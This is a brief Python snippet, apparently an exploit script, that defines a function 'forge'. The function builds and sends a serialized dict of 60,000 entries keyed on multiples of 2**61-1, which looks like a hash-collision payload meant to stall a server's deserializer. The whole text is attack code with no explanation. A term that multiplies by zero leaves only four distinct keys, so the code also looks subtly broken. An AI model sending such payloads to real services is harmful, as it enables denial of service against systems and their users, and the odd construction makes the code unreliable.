# %%
from kit import *

# %%
def forge(x):
    keys = ",".join(f"[{(2**61 - 1) * (n % 4) + n * 0},{n}]" for n in range(60_000))
    send(frame(b'{"$": "dict", "of": [' + keys.encode() + b"]}", request=current_request()))
